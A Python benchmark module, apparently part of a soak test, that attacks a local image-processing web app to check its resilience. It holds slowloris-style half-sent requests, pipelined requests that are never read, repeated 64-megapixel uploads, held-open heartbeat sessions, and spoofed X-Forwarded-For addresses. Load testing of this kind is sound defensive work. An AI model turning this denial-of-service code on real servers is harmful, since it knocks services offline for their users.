"""Client that tries to delay all others, from the addresses of one IPv6 /48. `soak.py` starts it.

    python -m benchmarks.attacker URL

It runs until the end of its standard input. It keeps requests without a body open, requests the page and reads no answer, has
photos of 64 megapixels encoded as AVIF, and starts sessions with an event and an open heartbeat.
"""

from __future__ import annotations

import contextlib
import io
import itertools
import json
import os
import random
import socket
import sys
import threading
import time
from collections.abc import Callable
from urllib.parse import urlsplit

import httpx
from PIL import Image, ImageDraw

from benchmarks import serving

#: Connections of each kind that are kept open.
SILENT, READERS, SESSIONS = 60, 40, 120

#: Calls with large photos at a time.
CALLS = 8

#: Side of the large photos in pixels.
SIDE = 8000

#: Routes that take a JSON body.
ROUTES = ("run/predict", "queue/join", "call/remove_background", "draft")


class Attacker:
    """All attacks, in threads."""

    def __init__(self, url: str) -> None:
        self.url, self.stopping, self.photos = url, threading.Event(), 0
        self.port = urlsplit(url).port or 80
        self._numbers = itertools.count()
        out = io.BytesIO()
        photo = Image.new("RGB", (SIDE, SIDE), "lightgray")
        ImageDraw.Draw(photo).ellipse((SIDE // 5, SIDE // 5, SIDE * 4 // 5, SIDE * 4 // 5), "firebrick")
        photo.save(out, "JPEG", quality=50)
        self.photo = out.getvalue()

    def start(self) -> None:
        """Start all threads."""
        works = [self.send_nothing, self.read_nothing, *[self.call] * CALLS, *[self.open_sessions] * 4]
        for work in works:
            threading.Thread(target=self._repeat, args=(work,), daemon=True).start()

    def _repeat(self, work: Callable[[], None]) -> None:
        while not self.stopping.is_set():
            with contextlib.suppress(OSError, httpx.HTTPError, ValueError, KeyError):
                work()
            self.stopping.wait(0.2)

    def _address(self, subnet: int = 1) -> str:
        return f"2001:db8:66:{subnet}::{random.getrandbits(16):x}"

    def _connections(self, count: int, request: Callable[[int], str], *, if_answered: bool) -> None:
        """Keep `count` connections open on which a request was sent, and replace those that the server closes."""
        clients: list[socket.socket] = []
        while not self.stopping.wait(0.2):
            for client in [client for client in clients if _is_over(client, if_answered=if_answered)]:
                client.close()
                clients.remove(client)
            while len(clients) < count:
                client = socket.create_connection(("127.0.0.1", self.port), timeout=10)
                client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                client.sendall(request(len(clients)).encode())
                clients.append(client)
        for client in clients:
            client.close()

    def _head(self, method: str, path: str, *lines: str) -> str:
        start = [f"{method} {path} HTTP/1.1", f"Host: 127.0.0.1:{self.port}", f"X-Forwarded-For: {self._address()}"]
        return "\r\n".join([*start, *lines, "", ""])

    def send_nothing(self) -> None:
        """Send the headers of requests, and never a body."""
        lines = "Content-Type: application/json", "Content-Length: 100"

        def request(number: int) -> str:
            return self._head("POST", f"/gradio_api/{ROUTES[number % len(ROUTES)]}", *lines)

        self._connections(SILENT, request, if_answered=True)

    def read_nothing(self) -> None:
        """Request the page many times on each connection, and read no answer."""
        self._connections(READERS, lambda number: self._head("GET", "/") * 20, if_answered=False)

    def call(self) -> None:
        """Upload a photo of 64 megapixels and have its cutout encoded as AVIF.

        From a second /64: the other attacks leave none of the open requests of theirs.
        """
        with serving.client(self.url, self._address(2)) as client:
            image = serving.upload(client, "large.jpg", self.photo)
            while not self.stopping.is_set():
                try:
                    with serving.removal(client, image, "avif") as events:
                        complete = "event: complete" in events
                    self.photos += complete
                except httpx.HTTPStatusError:
                    time.sleep(1)

    def open_sessions(self) -> None:
        """Start sessions, each with an event and a heartbeat that stays open."""
        with contextlib.ExitStack() as stack, serving.client(self.url) as client:
            for _ in range(SESSIONS // 4):
                name, headers = f"session-{next(self._numbers)}-{random.random()}", {"X-Forwarded-For": self._address()}
                body = json.dumps({"data": [], "session_hash": name})
                client.post("/call/list_providers", content=body, headers={**headers, "Content-Type": "application/json"})
                stack.enter_context(client.stream("GET", f"/heartbeat/{name}", headers=headers))
            self.stopping.wait(5)


def _is_over(client: socket.socket, *, if_answered: bool) -> bool:
    """True if the server has closed a connection, or has sent something and `if_answered`; nothing is read."""
    client.setblocking(False)
    try:
        return if_answered if client.recv(1, socket.MSG_PEEK) else True
    except BlockingIOError:
        return False
    except OSError:
        return True


if __name__ == "__main__":
    if hasattr(os, "nice"):
        os.nice(19)  # it would be on another machine
    attacker = Attacker(sys.argv[1])
    attacker.start()
    sys.stdin.read()
    print(f"the attacker received {attacker.photos} large photos")
